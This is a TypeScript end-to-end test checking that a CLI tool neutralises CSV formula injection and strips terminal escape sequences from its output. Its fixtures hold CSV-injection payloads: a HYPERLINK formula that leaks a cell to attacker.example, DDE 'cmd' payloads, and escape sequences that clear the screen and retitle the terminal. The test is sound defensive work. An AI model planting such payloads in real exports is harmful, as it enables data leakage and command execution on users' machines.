// `npm start` against a hostile Extend: runs whose workflow names, file names, batch ids, tags and statuses
// are spreadsheet formulas (=HYPERLINK, +SUM, @SUM, -…, =cmd|…) or carry terminal escape sequences. Every CSV
// it writes must open in Excel or LibreOffice as plain text (OWASP's CSV-injection advice: a leading
// apostrophe), real numbers such as -12.5 unchanged, and nothing it prints may carry a control character.
import { spawnSync } from "node:child_process";
import { existsSync, mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type StandInClient, startStandInProcess } from "../../dev/stand-in/process.js";
import type { FileSummary, StoredRun } from "../../dev/stand-in/types.js";

const KEY = "e2e-key-not-secret";
const REPO = join(import.meta.dirname, "../..");
const HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Open")';
const DDE = "=cmd|' /C calc'!A0";
const PLUS = "+SUM(1,2)";
const AT = "@SUM(1+1)*cmd|' /C calc'!A0";
const MINUS = "-2+3+cmd|' /C calc'!A0";
/** Clears the screen, retitles the terminal window, rings the bell, and a C1 CSI starting red text. */
const ESCAPES = "\u001b[2J\u001b]0;owned\u0007Invoices \u009b31mred\u001b[0m\r";
const RUN_A = "workflow_run_hostileAAAAAAAAAAAAAAA1";
const RUN_B = "workflow_run_hostileBBBBBBBBBBBBBBB2";

const file = (name: string): FileSummary => ({
  object: "file",
  id: `file_${name.length}`,
  name,
  type: "PDF",
  parentFileId: null,
  metadata: {},
  createdAt: "2026-03-01T10:00:00.000Z",
  updatedAt: "2026-03-01T10:00:00.000Z",
});

const hostileRuns: (Partial<StoredRun> & { id: string })[] = [
  {
    id: RUN_A,
    status: HYPERLINK,
    workflow: {
      object: "workflow",
      id: "workflow_hostile",
      name: DDE,
      createdAt: "2026-01-01T00:00:00.000Z",
      updatedAt: "2026-01-01T00:00:00.000Z",
    },
    batchId: PLUS,
    files: [file(MINUS)],
    metadata: { "extend:usage_tags": [AT, "-x", "\tTAB"] },
  },
  {
    id: RUN_B,
    status: "FAILED",
    workflow: {
      object: "workflow",
      id: "workflow_escapes",
      name: ESCAPES,
      createdAt: "2026-01-01T00:00:00.000Z",
      updatedAt: "2026-01-01T00:00:00.000Z",
    },
    failureReason: HYPERLINK,
    failureMessage: ESCAPES,
    metadata: { "extend:usage_tags": [ESCAPES] },
  },
];

let extend: StandInClient;
let folder: string;
beforeAll(async () => {
  extend = await startStandInProcess({ apiKey: KEY, runCount: 1, rate: 0 });
  await extend.addRuns(hostileRuns, { replace: true });
  folder = mkdtempSync(join(tmpdir(), "start-hostile-"));
});
afterAll(async () => {
  await extend?.close();
});

function start(args: string[]) {
  return spawnSync(process.execPath, ["--import", "tsx", join(REPO, "dev/start.ts"), ...args], {
    cwd: REPO,
    env: { ...process.env, EXTEND_API_KEY: KEY },
    encoding: "utf8",
    timeout: 60_000,
  });
}

/** Every cell of a CSV file as written, BOM kept out of the first cell. */
function cells(path: string): string[] {
  const rows: string[][] = parse(readFileSync(path, "utf8"), { bom: true, relax_column_count: true });
  return rows.flat();
}

/** What Excel and LibreOffice would take for a formula (or a formula's start), per OWASP. */
const formulaLike = (cell: string) =>
  /^[=+@\t\r]/.test(cell) || (cell.startsWith("-") && !/^-\d+(\.\d+)?(e[+-]?\d+)?$/i.test(cell));

/** C0 and C1 control characters (and DEL) other than newline and tab, as code points. */
const controls = (text: string): number[] =>
  [...text]
    .map((ch) => ch.codePointAt(0) ?? 0)
    .filter((code) => (code < 0x20 && code !== 0x0a && code !== 0x09) || (code >= 0x7f && code <= 0x9f));

function expectSafeCsv(path: string): string[] {
  expect(existsSync(path)).toBe(true);
  const written = cells(path);
  expect(written.filter(formulaLike)).toEqual([]);
  return written;
}

function expectPlainOutput(run: ReturnType<typeof start>): void {
  expect(run.stderr).toBe("");
  expect(run.status).toBe(0);
  const printed = `${run.stdout}${run.stderr}`;
  expect(controls(printed)).toEqual([]);
}

describe("npm start with a hostile Extend", () => {
  it("imports: the sheet and the credits summary are written as text, and the terminal gets no escapes", () => {
    const out = join(folder, "imported.csv");
    const run = start(["--import", out, "--with-current", "--base-url", extend.url]);
    expectPlainOutput(run);
    // The escape-laden workflow name is still printed, as text.
    expect(run.stdout).toContain("Invoices");
    const imported = expectSafeCsv(out);
    for (const value of [DDE, PLUS, MINUS, HYPERLINK]) expect(imported).toContain(`'${value}`);
    const credits = expectSafeCsv(out.replace(/\.csv$/, ".credits.csv"));
    expect(credits).toContain(`'${AT}`);
    expect(credits).toContain("'-x");
  });

  it("syncs: the synced sheet keeps real numbers and the input's BOM, and neutralises the rest", () => {
    const input = join(folder, "runs.csv");
    writeFileSync(
      input,
      `\uFEFF${[
        "Run ID,Name,metadata.amount,metadata.note,metadata.code",
        `${RUN_A},First,-12.5,-not a number,-1e-7`,
        `${RUN_B},Second,1234,@mention,+49 30 1234`,
      ].join("\n")}\n`,
    );
    const run = start([input, "--base-url", extend.url]);
    expectPlainOutput(run);
    const text = readFileSync(join(folder, "runs.synced.csv"), "utf8");
    expect(text.startsWith("\uFEFF")).toBe(true);
    const synced = expectSafeCsv(join(folder, "runs.synced.csv"));
    expect(synced).toEqual(expect.arrayContaining(["-12.5", "-1e-7", "1234", "'-not a number", "'@mention"]));
    expect(synced).toContain(`'${HYPERLINK}`);
  });

  it("refreshes: the refreshed sheet and the credits summary are text, without a BOM the input did not have", () => {
    const input = join(folder, "plain.csv");
    writeFileSync(input, ["Run ID", RUN_A, RUN_B].join("\n"));
    const run = start([input, "--refresh", "--base-url", extend.url]);
    expectPlainOutput(run);
    expect(readFileSync(join(folder, "plain.refreshed.csv"), "utf8").startsWith("\uFEFF")).toBe(false);
    const refreshed = expectSafeCsv(join(folder, "plain.refreshed.csv"));
    expect(refreshed).toContain(`'${HYPERLINK}`);
    expect(refreshed.some((cell) => cell.startsWith(`'${AT}`))).toBe(true);
    expectSafeCsv(join(folder, "plain.credits.csv"));
  });

  it("prints a server's error message without its escapes", async () => {
    await extend.setFaults([
      {
        kind: "status",
        status: 422,
        code: "INVALID_REQUEST",
        message: `Refused ${ESCAPES}`,
        times: "unlimited",
      },
    ]);
    const input = join(folder, "failing.csv");
    writeFileSync(input, ["Run ID,Name", `${RUN_A},Renamed`].join("\n"));
    try {
      const run = start([input, "--base-url", extend.url]);
      expectPlainOutput(run);
      expect(run.stdout).toMatch(/INVALID_REQUEST: Refused/);
    } finally {
      await extend.setFaults([]);
    }
  });
});
